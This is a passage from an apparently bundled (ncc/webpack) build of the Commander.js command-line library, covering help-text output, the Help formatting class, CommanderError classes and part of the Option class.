      helpWidth = this._outputConfiguration.getErrHelpWidth();
    } else {
      baseWrite = (str) => this._outputConfiguration.writeOut(str);
      hasColors = this._outputConfiguration.getOutHasColors();
      helpWidth = this._outputConfiguration.getOutHelpWidth();
    }
    const write = (str) => {
      if (!hasColors) str = this._outputConfiguration.stripColor(str);
      return baseWrite(str);
    };
    return { error, write, hasColors, helpWidth };
  }

  /**
   * Output help information for this command.
   *
   * Outputs built-in help, and custom text added using `.addHelpText()`.
   *
   * @param {{ error: boolean } | Function} [contextOptions] - pass {error:true} to write to stderr instead of stdout
   */

  outputHelp(contextOptions) {
    let deprecatedCallback;
    if (typeof contextOptions === 'function') {
      deprecatedCallback = contextOptions;
      contextOptions = undefined;
    }

    const outputContext = this._getOutputContext(contextOptions);
    /** @type {HelpTextEventContext} */
    const eventContext = {
      error: outputContext.error,
      write: outputContext.write,
      command: this,
    };

    this._getCommandAndAncestors()
      .reverse()
      .forEach((command) => command.emit('beforeAllHelp', eventContext));
    this.emit('beforeHelp', eventContext);

    let helpInformation = this.helpInformation({ error: outputContext.error });
    if (deprecatedCallback) {
      helpInformation = deprecatedCallback(helpInformation);
      if (
        typeof helpInformation !== 'string' &&
        !Buffer.isBuffer(helpInformation)
      ) {
        throw new Error('outputHelp callback must return a string or a Buffer');
      }
    }
    outputContext.write(helpInformation);

    if (this._getHelpOption()?.long) {
      this.emit(this._getHelpOption().long); // deprecated
    }
    this.emit('afterHelp', eventContext);
    this._getCommandAndAncestors().forEach((command) =>
      command.emit('afterAllHelp', eventContext),
    );
  }

  /**
   * You can pass in flags and a description to customise the built-in help option.
   * Pass in false to disable the built-in help option.
   *
   * @example
   * program.helpOption('-?, --help' 'show help'); // customise
   * program.helpOption(false); // disable
   *
   * @param {(string | boolean)} flags
   * @param {string} [description]
   * @return {Command} `this` command for chaining
   */

  helpOption(flags, description) {
    // Support enabling/disabling built-in help option.
    if (typeof flags === 'boolean') {
      if (flags) {
        if (this._helpOption === null) this._helpOption = undefined; // reenable
        if (this._defaultOptionGroup) {
          // make the option to store the group
          this._initOptionGroup(this._getHelpOption());
        }
      } else {
        this._helpOption = null; // disable
      }
      return this;
    }

    // Customise flags and description.
    this._helpOption = this.createOption(
      flags ?? '-h, --help',
      description ?? 'display help for command',
    );
    // init group unless lazy create
    if (flags || description) this._initOptionGroup(this._helpOption);

    return this;
  }

  /**
   * Lazy create help option.
   * Returns null if has been disabled with .helpOption(false).
   *
   * @returns {(Option | null)} the help option
   * @package
   */
  _getHelpOption() {
    // Lazy create help option on demand.
    if (this._helpOption === undefined) {
      this.helpOption(undefined, undefined);
    }
    return this._helpOption;
  }

  /**
   * Supply your own option to use for the built-in help option.
   * This is an alternative to using helpOption() to customise the flags and description etc.
   *
   * @param {Option} option
   * @return {Command} `this` command for chaining
   */
  addHelpOption(option) {
    this._helpOption = option;
    this._initOptionGroup(option);
    return this;
  }

  /**
   * Output help information and exit.
   *
   * Outputs built-in help, and custom text added using `.addHelpText()`.
   *
   * @param {{ error: boolean }} [contextOptions] - pass {error:true} to write to stderr instead of stdout
   */

  help(contextOptions) {
    this.outputHelp(contextOptions);
    let exitCode = Number(process.exitCode ?? 0); // process.exitCode does allow a string or an integer, but we prefer just a number
    if (
      exitCode === 0 &&
      contextOptions &&
      typeof contextOptions !== 'function' &&
      contextOptions.error
    ) {
      exitCode = 1;
    }
    // message: do not have all displayed text available so only passing placeholder.
    this._exit(exitCode, 'commander.help', '(outputHelp)');
  }

  /**
   * // Do a little typing to coordinate emit and listener for the help text events.
   * @typedef HelpTextEventContext
   * @type {object}
   * @property {boolean} error
   * @property {Command} command
   * @property {function} write
   */

  /**
   * Add additional text to be displayed with the built-in help.
   *
   * Position is 'before' or 'after' to affect just this command,
   * and 'beforeAll' or 'afterAll' to affect this command and all its subcommands.
   *
   * @param {string} position - before or after built-in help
   * @param {(string | Function)} text - string to add, or a function returning a string
   * @return {Command} `this` command for chaining
   */

  addHelpText(position, text) {
    const allowedValues = ['beforeAll', 'before', 'after', 'afterAll'];
    if (!allowedValues.includes(position)) {
      throw new Error(`Unexpected value for position to addHelpText.
Expecting one of '${allowedValues.join("', '")}'`);
    }

    const helpEvent = `${position}Help`;
    this.on(helpEvent, (/** @type {HelpTextEventContext} */ context) => {
      let helpStr;
      if (typeof text === 'function') {
        helpStr = text({ error: context.error, command: context.command });
      } else {
        helpStr = text;
      }
      // Ignore falsy value when nothing to output.
      if (helpStr) {
        context.write(`${helpStr}\n`);
      }
    });
    return this;
  }

  /**
   * Output help information if help flags specified
   *
   * @param {Array} args - array of options to search for help flags
   * @private
   */

  _outputHelpIfRequested(args) {
    const helpOption = this._getHelpOption();
    const helpRequested = helpOption && args.find((arg) => helpOption.is(arg));
    if (helpRequested) {
      this.outputHelp();
      // (Do not have all displayed text available so only passing placeholder.)
      this._exit(0, 'commander.helpDisplayed', '(outputHelp)');
    }
  }
}

/**
 * Scan arguments and increment port number for inspect calls (to avoid conflicts when spawning new command).
 *
 * @param {string[]} args - array of arguments from node.execArgv
 * @returns {string[]}
 * @private
 */

function incrementNodeInspectorPort(args) {
  // Testing for these options:
  //  --inspect[=[host:]port]
  //  --inspect-brk[=[host:]port]
  //  --inspect-port=[host:]port
  return args.map((arg) => {
    if (!arg.startsWith('--inspect')) {
      return arg;
    }
    let debugOption;
    let debugHost = '127.0.0.1';
    let debugPort = '9229';
    let match;
    if ((match = arg.match(/^(--inspect(-brk)?)$/)) !== null) {
      // e.g. --inspect
      debugOption = match[1];
    } else if (
      (match = arg.match(/^(--inspect(-brk|-port)?)=([^:]+)$/)) !== null
    ) {
      debugOption = match[1];
      if (/^\d+$/.test(match[3])) {
        // e.g. --inspect=1234
        debugPort = match[3];
      } else {
        // e.g. --inspect=localhost
        debugHost = match[3];
      }
    } else if (
      (match = arg.match(/^(--inspect(-brk|-port)?)=([^:]+):(\d+)$/)) !== null
    ) {
      // e.g. --inspect=localhost:1234
      debugOption = match[1];
      debugHost = match[3];
      debugPort = match[4];
    }

    if (debugOption && debugPort !== '0') {
      return `${debugOption}=${debugHost}:${parseInt(debugPort) + 1}`;
    }
    return arg;
  });
}

/**
 * @returns {boolean | undefined}
 * @package
 */
function useColor() {
  // Test for common conventions.
  // NB: the observed behaviour is in combination with how author adds color! For example:
  //   - we do not test NODE_DISABLE_COLORS, but util:styletext does
  //   - we do test NO_COLOR, but Chalk does not
  //
  // References:
  // https://no-color.org
  // https://bixense.com/clicolors/
  // https://github.com/nodejs/node/blob/0a00217a5f67ef4a22384cfc80eb6dd9a917fdc1/lib/internal/tty.js#L109
  // https://github.com/chalk/supports-color/blob/c214314a14bcb174b12b3014b2b0a8de375029ae/index.js#L33
  // (https://force-color.org recent web page from 2023, does not match major javascript implementations)

  if (
    process.env.NO_COLOR ||
    process.env.FORCE_COLOR === '0' ||
    process.env.FORCE_COLOR === 'false'
  )
    return false;
  if (process.env.FORCE_COLOR || process.env.CLICOLOR_FORCE !== undefined)
    return true;
  return undefined;
}

exports.Command = Command;
exports.useColor = useColor; // exporting for tests


/***/ }),

/***/ 1135:
/***/ ((__unused_webpack_module, exports) => {

/**
 * CommanderError class
 */
class CommanderError extends Error {
  /**
   * Constructs the CommanderError class
   * @param {number} exitCode suggested exit code which could be used with process.exit
   * @param {string} code an id string representing the error
   * @param {string} message human-readable description of the error
   */
  constructor(exitCode, code, message) {
    super(message);
    // properly capture stack trace in Node.js
    Error.captureStackTrace(this, this.constructor);
    this.name = this.constructor.name;
    this.code = code;
    this.exitCode = exitCode;
    this.nestedError = undefined;
  }
}

/**
 * InvalidArgumentError class
 */
class InvalidArgumentError extends CommanderError {
  /**
   * Constructs the InvalidArgumentError class
   * @param {string} [message] explanation of why argument is invalid
   */
  constructor(message) {
    super(1, 'commander.invalidArgument', message);
    // properly capture stack trace in Node.js
    Error.captureStackTrace(this, this.constructor);
    this.name = this.constructor.name;
  }
}

exports.CommanderError = CommanderError;
exports.InvalidArgumentError = InvalidArgumentError;


/***/ }),

/***/ 9754:
/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {

const { humanReadableArgName } = __nccwpck_require__(9154);

/**
 * TypeScript import types for JSDoc, used by Visual Studio Code IntelliSense and `npm run typescript-checkJS`
 * https://www.typescriptlang.org/docs/handbook/jsdoc-supported-types.html#import-types
 * @typedef { import("./argument.js").Argument } Argument
 * @typedef { import("./command.js").Command } Command
 * @typedef { import("./option.js").Option } Option
 */

// Although this is a class, methods are static in style to allow override using subclass or just functions.
class Help {
  constructor() {
    this.helpWidth = undefined;
    this.minWidthToWrap = 40;
    this.sortSubcommands = false;
    this.sortOptions = false;
    this.showGlobalOptions = false;
  }

  /**
   * prepareContext is called by Commander after applying overrides from `Command.configureHelp()`
   * and just before calling `formatHelp()`.
   *
   * Commander just uses the helpWidth and the rest is provided for optional use by more complex subclasses.
   *
   * @param {{ error?: boolean, helpWidth?: number, outputHasColors?: boolean }} contextOptions
   */
  prepareContext(contextOptions) {
    this.helpWidth = this.helpWidth ?? contextOptions.helpWidth ?? 80;
  }

  /**
   * Get an array of the visible subcommands. Includes a placeholder for the implicit help command, if there is one.
   *
   * @param {Command} cmd
   * @returns {Command[]}
   */

  visibleCommands(cmd) {
    const visibleCommands = cmd.commands.filter((cmd) => !cmd._hidden);
    const helpCommand = cmd._getHelpCommand();
    if (helpCommand && !helpCommand._hidden) {
      visibleCommands.push(helpCommand);
    }
    if (this.sortSubcommands) {
      visibleCommands.sort((a, b) => {
        // @ts-ignore: because overloaded return type
        return a.name().localeCompare(b.name());
      });
    }
    return visibleCommands;
  }

  /**
   * Compare options for sort.
   *
   * @param {Option} a
   * @param {Option} b
   * @returns {number}
   */
  compareOptions(a, b) {
    const getSortKey = (option) => {
      // WYSIWYG for order displayed in help. Short used for comparison if present. No special handling for negated.
      return option.short
        ? option.short.replace(/^-/, '')
        : option.long.replace(/^--/, '');
    };
    return getSortKey(a).localeCompare(getSortKey(b));
  }

  /**
   * Get an array of the visible options. Includes a placeholder for the implicit help option, if there is one.
   *
   * @param {Command} cmd
   * @returns {Option[]}
   */

  visibleOptions(cmd) {
    const visibleOptions = cmd.options.filter((option) => !option.hidden);
    // Built-in help option.
    const helpOption = cmd._getHelpOption();
    if (helpOption && !helpOption.hidden) {
      // Automatically hide conflicting flags. Bit dubious but a historical behaviour that is convenient for single-command programs.
      const removeShort = helpOption.short && cmd._findOption(helpOption.short);
      const removeLong = helpOption.long && cmd._findOption(helpOption.long);
      if (!removeShort && !removeLong) {
        visibleOptions.push(helpOption); // no changes needed
      } else if (helpOption.long && !removeLong) {
        visibleOptions.push(
          cmd.createOption(helpOption.long, helpOption.description),
        );
      } else if (helpOption.short && !removeShort) {
        visibleOptions.push(
          cmd.createOption(helpOption.short, helpOption.description),
        );
      }
    }
    if (this.sortOptions) {
      visibleOptions.sort(this.compareOptions);
    }
    return visibleOptions;
  }

  /**
   * Get an array of the visible global options. (Not including help.)
   *
   * @param {Command} cmd
   * @returns {Option[]}
   */

  visibleGlobalOptions(cmd) {
    if (!this.showGlobalOptions) return [];

    const globalOptions = [];
    for (
      let ancestorCmd = cmd.parent;
      ancestorCmd;
      ancestorCmd = ancestorCmd.parent
    ) {
      const visibleOptions = ancestorCmd.options.filter(
        (option) => !option.hidden,
      );
      globalOptions.push(...visibleOptions);
    }
    if (this.sortOptions) {
      globalOptions.sort(this.compareOptions);
    }
    return globalOptions;
  }

  /**
   * Get an array of the arguments if any have a description.
   *
   * @param {Command} cmd
   * @returns {Argument[]}
   */

  visibleArguments(cmd) {
    // Side effect! Apply the legacy descriptions before the arguments are displayed.
    if (cmd._argsDescription) {
      cmd.registeredArguments.forEach((argument) => {
        argument.description =
          argument.description || cmd._argsDescription[argument.name()] || '';
      });
    }

    // If there are any arguments with a description then return all the arguments.
    if (cmd.registeredArguments.find((argument) => argument.description)) {
      return cmd.registeredArguments;
    }
    return [];
  }

  /**
   * Get the command term to show in the list of subcommands.
   *
   * @param {Command} cmd
   * @returns {string}
   */

  subcommandTerm(cmd) {
    // Legacy. Ignores custom usage string, and nested commands.
    const args = cmd.registeredArguments
      .map((arg) => humanReadableArgName(arg))
      .join(' ');
    return (
      cmd._name +
      (cmd._aliases[0] ? '|' + cmd._aliases[0] : '') +
      (cmd.options.length ? ' [options]' : '') + // simplistic check for non-help option
      (args ? ' ' + args : '')
    );
  }

  /**
   * Get the option term to show in the list of options.
   *
   * @param {Option} option
   * @returns {string}
   */

  optionTerm(option) {
    return option.flags;
  }

  /**
   * Get the argument term to show in the list of arguments.
   *
   * @param {Argument} argument
   * @returns {string}
   */

  argumentTerm(argument) {
    return argument.name();
  }

  /**
   * Get the longest command term length.
   *
   * @param {Command} cmd
   * @param {Help} helper
   * @returns {number}
   */

  longestSubcommandTermLength(cmd, helper) {
    return helper.visibleCommands(cmd).reduce((max, command) => {
      return Math.max(
        max,
        this.displayWidth(
          helper.styleSubcommandTerm(helper.subcommandTerm(command)),
        ),
      );
    }, 0);
  }

  /**
   * Get the longest option term length.
   *
   * @param {Command} cmd
   * @param {Help} helper
   * @returns {number}
   */

  longestOptionTermLength(cmd, helper) {
    return helper.visibleOptions(cmd).reduce((max, option) => {
      return Math.max(
        max,
        this.displayWidth(helper.styleOptionTerm(helper.optionTerm(option))),
      );
    }, 0);
  }

  /**
   * Get the longest global option term length.
   *
   * @param {Command} cmd
   * @param {Help} helper
   * @returns {number}
   */

  longestGlobalOptionTermLength(cmd, helper) {
    return helper.visibleGlobalOptions(cmd).reduce((max, option) => {
      return Math.max(
        max,
        this.displayWidth(helper.styleOptionTerm(helper.optionTerm(option))),
      );
    }, 0);
  }

  /**
   * Get the longest argument term length.
   *
   * @param {Command} cmd
   * @param {Help} helper
   * @returns {number}
   */

  longestArgumentTermLength(cmd, helper) {
    return helper.visibleArguments(cmd).reduce((max, argument) => {
      return Math.max(
        max,
        this.displayWidth(
          helper.styleArgumentTerm(helper.argumentTerm(argument)),
        ),
      );
    }, 0);
  }

  /**
   * Get the command usage to be displayed at the top of the built-in help.
   *
   * @param {Command} cmd
   * @returns {string}
   */

  commandUsage(cmd) {
    // Usage
    let cmdName = cmd._name;
    if (cmd._aliases[0]) {
      cmdName = cmdName + '|' + cmd._aliases[0];
    }
    let ancestorCmdNames = '';
    for (
      let ancestorCmd = cmd.parent;
      ancestorCmd;
      ancestorCmd = ancestorCmd.parent
    ) {
      ancestorCmdNames = ancestorCmd.name() + ' ' + ancestorCmdNames;
    }
    return ancestorCmdNames + cmdName + ' ' + cmd.usage();
  }

  /**
   * Get the description for the command.
   *
   * @param {Command} cmd
   * @returns {string}
   */

  commandDescription(cmd) {
    // @ts-ignore: because overloaded return type
    return cmd.description();
  }

  /**
   * Get the subcommand summary to show in the list of subcommands.
   * (Fallback to description for backwards compatibility.)
   *
   * @param {Command} cmd
   * @returns {string}
   */

  subcommandDescription(cmd) {
    // @ts-ignore: because overloaded return type
    return cmd.summary() || cmd.description();
  }

  /**
   * Get the option description to show in the list of options.
   *
   * @param {Option} option
   * @return {string}
   */

  optionDescription(option) {
    const extraInfo = [];

    if (option.argChoices) {
      extraInfo.push(
        // use stringify to match the display of the default value
        `choices: ${option.argChoices.map((choice) => JSON.stringify(choice)).join(', ')}`,
      );
    }
    if (option.defaultValue !== undefined) {
      // default for boolean and negated more for programmer than end user,
      // but show true/false for boolean option as may be for hand-rolled env or config processing.
      const showDefault =
        option.required ||
        option.optional ||
        (option.isBoolean() && typeof option.defaultValue === 'boolean');
      if (showDefault) {
        extraInfo.push(
          `default: ${option.defaultValueDescription || JSON.stringify(option.defaultValue)}`,
        );
      }
    }
    // preset for boolean and negated are more for programmer than end user
    if (option.presetArg !== undefined && option.optional) {
      extraInfo.push(`preset: ${JSON.stringify(option.presetArg)}`);
    }
    if (option.envVar !== undefined) {
      extraInfo.push(`env: ${option.envVar}`);
    }
    if (extraInfo.length > 0) {
      const extraDescription = `(${extraInfo.join(', ')})`;
      if (option.description) {
        return `${option.description} ${extraDescription}`;
      }
      return extraDescription;
    }

    return option.description;
  }

  /**
   * Get the argument description to show in the list of arguments.
   *
   * @param {Argument} argument
   * @return {string}
   */

  argumentDescription(argument) {
    const extraInfo = [];
    if (argument.argChoices) {
      extraInfo.push(
        // use stringify to match the display of the default value
        `choices: ${argument.argChoices.map((choice) => JSON.stringify(choice)).join(', ')}`,
      );
    }
    if (argument.defaultValue !== undefined) {
      extraInfo.push(
        `default: ${argument.defaultValueDescription || JSON.stringify(argument.defaultValue)}`,
      );
    }
    if (extraInfo.length > 0) {
      const extraDescription = `(${extraInfo.join(', ')})`;
      if (argument.description) {
        return `${argument.description} ${extraDescription}`;
      }
      return extraDescription;
    }
    return argument.description;
  }

  /**
   * Format a list of items, given a heading and an array of formatted items.
   *
   * @param {string} heading
   * @param {string[]} items
   * @param {Help} helper
   * @returns string[]
   */
  formatItemList(heading, items, helper) {
    if (items.length === 0) return [];

    return [helper.styleTitle(heading), ...items, ''];
  }

  /**
   * Group items by their help group heading.
   *
   * @param {Command[] | Option[]} unsortedItems
   * @param {Command[] | Option[]} visibleItems
   * @param {Function} getGroup
   * @returns {Map<string, Command[] | Option[]>}
   */
  groupItems(unsortedItems, visibleItems, getGroup) {
    const result = new Map();
    // Add groups in order of appearance in unsortedItems.
    unsortedItems.forEach((item) => {
      const group = getGroup(item);
      if (!result.has(group)) result.set(group, []);
    });
    // Add items in order of appearance in visibleItems.
    visibleItems.forEach((item) => {
      const group = getGroup(item);
      if (!result.has(group)) {
        result.set(group, []);
      }
      result.get(group).push(item);
    });
    return result;
  }

  /**
   * Generate the built-in help text.
   *
   * @param {Command} cmd
   * @param {Help} helper
   * @returns {string}
   */

  formatHelp(cmd, helper) {
    const termWidth = helper.padWidth(cmd, helper);
    const helpWidth = helper.helpWidth ?? 80; // in case prepareContext() was not called

    function callFormatItem(term, description) {
      return helper.formatItem(term, termWidth, description, helper);
    }

    // Usage
    let output = [
      `${helper.styleTitle('Usage:')} ${helper.styleUsage(helper.commandUsage(cmd))}`,
      '',
    ];

    // Description
    const commandDescription = helper.commandDescription(cmd);
    if (commandDescription.length > 0) {
      output = output.concat([
        helper.boxWrap(
          helper.styleCommandDescription(commandDescription),
          helpWidth,
        ),
        '',
      ]);
    }

    // Arguments
    const argumentList = helper.visibleArguments(cmd).map((argument) => {
      return callFormatItem(
        helper.styleArgumentTerm(helper.argumentTerm(argument)),
        helper.styleArgumentDescription(helper.argumentDescription(argument)),
      );
    });
    output = output.concat(
      this.formatItemList('Arguments:', argumentList, helper),
    );

    // Options
    const optionGroups = this.groupItems(
      cmd.options,
      helper.visibleOptions(cmd),
      (option) => option.helpGroupHeading ?? 'Options:',
    );
    optionGroups.forEach((options, group) => {
      const optionList = options.map((option) => {
        return callFormatItem(
          helper.styleOptionTerm(helper.optionTerm(option)),
          helper.styleOptionDescription(helper.optionDescription(option)),
        );
      });
      output = output.concat(this.formatItemList(group, optionList, helper));
    });

    if (helper.showGlobalOptions) {
      const globalOptionList = helper
        .visibleGlobalOptions(cmd)
        .map((option) => {
          return callFormatItem(
            helper.styleOptionTerm(helper.optionTerm(option)),
            helper.styleOptionDescription(helper.optionDescription(option)),
          );
        });
      output = output.concat(
        this.formatItemList('Global Options:', globalOptionList, helper),
      );
    }

    // Commands
    const commandGroups = this.groupItems(
      cmd.commands,
      helper.visibleCommands(cmd),
      (sub) => sub.helpGroup() || 'Commands:',
    );
    commandGroups.forEach((commands, group) => {
      const commandList = commands.map((sub) => {
        return callFormatItem(
          helper.styleSubcommandTerm(helper.subcommandTerm(sub)),
          helper.styleSubcommandDescription(helper.subcommandDescription(sub)),
        );
      });
      output = output.concat(this.formatItemList(group, commandList, helper));
    });

    return output.join('\n');
  }

  /**
   * Return display width of string, ignoring ANSI escape sequences. Used in padding and wrapping calculations.
   *
   * @param {string} str
   * @returns {number}
   */
  displayWidth(str) {
    return stripColor(str).length;
  }

  /**
   * Style the title for displaying in the help. Called with 'Usage:', 'Options:', etc.
   *
   * @param {string} str
   * @returns {string}
   */
  styleTitle(str) {
    return str;
  }

  styleUsage(str) {
    // Usage has lots of parts the user might like to color separately! Assume default usage string which is formed like:
    //    command subcommand [options] [command] <foo> [bar]
    return str
      .split(' ')
      .map((word) => {
        if (word === '[options]') return this.styleOptionText(word);
        if (word === '[command]') return this.styleSubcommandText(word);
        if (word[0] === '[' || word[0] === '<')
          return this.styleArgumentText(word);
        return this.styleCommandText(word); // Restrict to initial words?
      })
      .join(' ');
  }
  styleCommandDescription(str) {
    return this.styleDescriptionText(str);
  }
  styleOptionDescription(str) {
    return this.styleDescriptionText(str);
  }
  styleSubcommandDescription(str) {
    return this.styleDescriptionText(str);
  }
  styleArgumentDescription(str) {
    return this.styleDescriptionText(str);
  }
  styleDescriptionText(str) {
    return str;
  }
  styleOptionTerm(str) {
    return this.styleOptionText(str);
  }
  styleSubcommandTerm(str) {
    // This is very like usage with lots of parts! Assume default string which is formed like:
    //    subcommand [options] <foo> [bar]
    return str
      .split(' ')
      .map((word) => {
        if (word === '[options]') return this.styleOptionText(word);
        if (word[0] === '[' || word[0] === '<')
          return this.styleArgumentText(word);
        return this.styleSubcommandText(word); // Restrict to initial words?
      })
      .join(' ');
  }
  styleArgumentTerm(str) {
    return this.styleArgumentText(str);
  }
  styleOptionText(str) {
    return str;
  }
  styleArgumentText(str) {
    return str;
  }
  styleSubcommandText(str) {
    return str;
  }
  styleCommandText(str) {
    return str;
  }

  /**
   * Calculate the pad width from the maximum term length.
   *
   * @param {Command} cmd
   * @param {Help} helper
   * @returns {number}
   */

  padWidth(cmd, helper) {
    return Math.max(
      helper.longestOptionTermLength(cmd, helper),
      helper.longestGlobalOptionTermLength(cmd, helper),
      helper.longestSubcommandTermLength(cmd, helper),
      helper.longestArgumentTermLength(cmd, helper),
    );
  }

  /**
   * Detect manually wrapped and indented strings by checking for line break followed by whitespace.
   *
   * @param {string} str
   * @returns {boolean}
   */
  preformatted(str) {
    return /\n[^\S\r\n]/.test(str);
  }

  /**
   * Format the "item", which consists of a term and description. Pad the term and wrap the description, indenting the following lines.
   *
   * So "TTT", 5, "DDD DDDD DD DDD" might be formatted for this.helpWidth=17 like so:
   *   TTT  DDD DDDD
   *        DD DDD
   *
   * @param {string} term
   * @param {number} termWidth
   * @param {string} description
   * @param {Help} helper
   * @returns {string}
   */
  formatItem(term, termWidth, description, helper) {
    const itemIndent = 2;
    const itemIndentStr = ' '.repeat(itemIndent);
    if (!description) return itemIndentStr + term;

    // Pad the term out to a consistent width, so descriptions are aligned.
    const paddedTerm = term.padEnd(
      termWidth + term.length - helper.displayWidth(term),
    );

    // Format the description.
    const spacerWidth = 2; // between term and description
    const helpWidth = this.helpWidth ?? 80; // in case prepareContext() was not called
    const remainingWidth = helpWidth - termWidth - spacerWidth - itemIndent;
    let formattedDescription;
    if (
      remainingWidth < this.minWidthToWrap ||
      helper.preformatted(description)
    ) {
      formattedDescription = description;
    } else {
      const wrappedDescription = helper.boxWrap(description, remainingWidth);
      formattedDescription = wrappedDescription.replace(
        /\n/g,
        '\n' + ' '.repeat(termWidth + spacerWidth),
      );
    }

    // Construct and overall indent.
    return (
      itemIndentStr +
      paddedTerm +
      ' '.repeat(spacerWidth) +
      formattedDescription.replace(/\n/g, `\n${itemIndentStr}`)
    );
  }

  /**
   * Wrap a string at whitespace, preserving existing line breaks.
   * Wrapping is skipped if the width is less than `minWidthToWrap`.
   *
   * @param {string} str
   * @param {number} width
   * @returns {string}
   */
  boxWrap(str, width) {
    if (width < this.minWidthToWrap) return str;

    const rawLines = str.split(/\r\n|\n/);
    // split up text by whitespace
    const chunkPattern = /[\s]*[^\s]+/g;
    const wrappedLines = [];
    rawLines.forEach((line) => {
      const chunks = line.match(chunkPattern);
      if (chunks === null) {
        wrappedLines.push('');
        return;
      }

      let sumChunks = [chunks.shift()];
      let sumWidth = this.displayWidth(sumChunks[0]);
      chunks.forEach((chunk) => {
        const visibleWidth = this.displayWidth(chunk);
        // Accumulate chunks while they fit into width.
        if (sumWidth + visibleWidth <= width) {
          sumChunks.push(chunk);
          sumWidth += visibleWidth;
          return;
        }
        wrappedLines.push(sumChunks.join(''));

        const nextChunk = chunk.trimStart(); // trim space at line break
        sumChunks = [nextChunk];
        sumWidth = this.displayWidth(nextChunk);
      });
      wrappedLines.push(sumChunks.join(''));
    });

    return wrappedLines.join('\n');
  }
}

/**
 * Strip style ANSI escape sequences from the string. In particular, SGR (Select Graphic Rendition) codes.
 *
 * @param {string} str
 * @returns {string}
 * @package
 */

function stripColor(str) {
  // eslint-disable-next-line no-control-regex
  const sgrPattern = /\x1b\[\d*(;\d*)*m/g;
  return str.replace(sgrPattern, '');
}

exports.Help = Help;
exports.stripColor = stripColor;


/***/ }),

/***/ 5240:
/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {

const { InvalidArgumentError } = __nccwpck_require__(1135);

class Option {
  /**
   * Initialize a new `Option` with the given `flags` and `description`.
   *
   * @param {string} flags
   * @param {string} [description]
   */

  constructor(flags, description) {
    this.flags = flags;
    this.description = description || '';

    this.required = flags.includes('<'); // A value must be supplied when the option is specified.
    this.optional = flags.includes('['); // A value is optional when the option is specified.
    // variadic test ignores <value,...> et al which might be used to describe custom splitting of single argument
    this.variadic = /\w\.\.\.[>\]]$/.test(flags); // The option can take multiple values.
    this.mandatory = false; // The option must have a value after parsing, which usually means it must be specified on command line.
    const optionFlags = splitOptionFlags(flags);
    this.short = optionFlags.shortFlag; // May be a short flag, undefined, or even a long flag (if option has two long flags).
    this.long = optionFlags.longFlag;
    this.negate = false;
    if (this.long) {
      this.negate = this.long.startsWith('--no-');
    }
    this.defaultValue = undefined;
    this.defaultValueDescription = undefined;
    this.presetArg = undefined;
    this.envVar = undefined;
    this.parseArg = undefined;
    this.hidden = false;
    this.argChoices = undefined;
    this.conflictsWith = [];
    this.implied = undefined;
    this.helpGroupHeading = undefined; // soft initialised when option added to command
  }

  /**
   * Set the default value, and optionally supply the description to be displayed in the help.
   *
   * @param {*} value
   * @param {string} [description]
   * @return {Option}
   */

  default(value, description) {
    this.defaultValue = value;
    this.defaultValueDescription = description;
    return this;
  }

  /**
   * Preset to use when option used without option-argument, especially optional but also boolean and negated.
   * The custom processing (parseArg) is called.
   *
   * @example
   * new Option('--color').default('GREYSCALE').preset('RGB');
   * new Option('--donate [amount]').preset('20').argParser(parseFloat);
   *
   * @param {*} arg
   * @return {Option}
   */

  preset(arg) {
    this.presetArg = arg;
    return this;
  }

  /**
   * Add option name(s) that conflict with this option.
   * An error will be displayed if conflicting options are found during parsing.
   *
   * @example
   * new Option('--rgb').conflicts('cmyk');
   * new Option('--js').conflicts(['ts', 'jsx']);
   *
   * @param {(string | string[])} names
   * @return {Option}
   */

  conflicts(names) {
    this.conflictsWith = this.conflictsWith.concat(names);
    return this;
  }

  /**
   * Specify implied option values for when this option is set and the implied options are not.
   *
   * The custom processing (parseArg) is not called on the implied values.
   *
   * @example
   * program
   *   .addOption(new Option('--log', 'write logging information to file'))
   *   .addOption(new Option('--trace', 'log extra details').implies({ log: 'trace.txt' }));
   *
   * @param {object} impliedOptionValues
   * @return {Option}
   */
  implies(impliedOptionValues) {
    let newImplied = impliedOptionValues;
    if (typeof impliedOptionValues === 'string') {
      // string is not documented, but easy mistake and we can do what user probably intended.
      newImplied = { [impliedOptionValues]: true };
    }
    this.implied = Object.assign(this.implied || {}, newImplied);
    return this;
  }

  /**
   * Set environment variable to check for option value.
   *
   * An environment variable is only used if when processed the current option value is
   * undefined, or the source of the current value is 'default' or 'config' or 'env'.
   *
   * @param {string} name
   * @return {Option}
   */

  env(name) {
    this.envVar = name;
    return this;
  }

  /**
   * Set the custom handler for processing CLI option arguments into option values.
   *
   * @param {Function} [fn]
   * @return {Option}
   */

  argParser(fn) {
    this.parseArg = fn;
    return this;
  }

  /**
   * Whether the option is mandatory and must have a value after parsing.
   *
   * @param {boolean} [mandatory=true]
   * @return {Option}
   */

  makeOptionMandatory(mandatory = true) {
    this.mandatory = !!mandatory;
    return this;
  }

  /**
   * Hide option in help.
   *
   * @param {boolean} [hide=true]
   * @return {Option}
   */

  hideHelp(hide = true) {
    this.hidden = !!hide;
    return this;
  }

  /**
   * @package
   */

  _collectValue(value, previous) {
    if (previous === this.defaultValue || !Array.isArray(previous)) {
      return [value];
    }

    previous.push(value);
    return previous;
  }

  /**
   * Only allow option value to be one of choices.
   *
   * @param {string[]} values
   * @return {Option}
   */

  choices(values) {
    this.argChoices = values.slice();
    this.parseArg = (arg, previous) => {
      if (!this.argChoices.includes(arg)) {
        throw new InvalidArgumentError(
          `Allowed choices are ${this.argChoices.join(', ')}.`,
        );
      }
      if (this.variadic) {
        return this._collectValue(arg, previous);
      }
      return arg;
    };
    return this;
  }

  /**
   * Return option name.
   *
   * @return {string}
   */

  name() {
    if (this.long) {
      return this.long.replace(/^--/, '');
    }
    return this.short.replace(/^-/, '');
  }

  /**
   * Return option name, in a camelcase format that can be used
   * as an object attribute key.
   *
   * @return {string}
   */

  attributeName() {
    if (this.negate) {
      return camelcase(this.name().replace(/^no-/, ''));
    }
    return camelcase(this.name());
  }

  /**
   * Set the help group heading.
   *
   * @param {string} heading
   * @return {Option}
   */
  helpGroup(heading) {
    this.helpGroupHeading = heading;
    return this;
  }

  /**
   * Check if `arg` matches the short or long flag.
   *
   * @param {string} arg
   * @return {boolean}
   * @package
   */

  is(arg) {
    return this.short === arg || this.long === arg;
  }

  /**
   * Return whether a boolean option.
   *
   * Options are one of boolean, negated, required argument, or optional argument.
   *
   * @return {boolean}
   * @package
   */

  isBoolean() {
    return !this.required && !this.optional && !this.negate;
  }
}

/**
 * This class is to make it easier to work with dual options, without changing the existing
